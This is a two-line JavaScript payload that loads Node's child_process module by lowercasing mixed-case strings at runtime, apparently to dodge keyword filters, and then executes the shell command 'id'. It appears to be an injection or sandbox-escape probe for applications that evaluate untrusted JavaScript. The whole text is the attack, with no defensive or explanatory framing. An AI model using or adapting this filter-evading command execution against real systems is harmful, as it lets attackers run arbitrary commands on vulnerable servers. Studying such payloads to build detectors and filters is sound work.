const m = require('ChIlD_pRoCeSs'.toLocaleLowerCase());
m['EXEC'.toLowerCase()]('id');
